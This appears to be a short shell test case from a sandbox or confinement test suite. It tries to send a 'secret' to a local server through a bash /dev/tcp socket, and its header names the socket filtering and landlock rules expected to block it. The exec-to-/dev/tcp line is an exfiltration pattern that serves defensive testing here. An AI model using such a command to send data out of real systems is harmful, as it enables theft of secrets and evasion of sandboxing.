# goal: send a secret to a server with nothing but the shell
# success: reaches tcp
# held_by: calls:sockets + calls:socket use + landlock_network
port=$(grep -o '"tcp": [0-9]*' target.json | grep -o '[0-9]*')
exec 3<>"/dev/tcp/127.0.0.1/$port" && echo attacked >&3
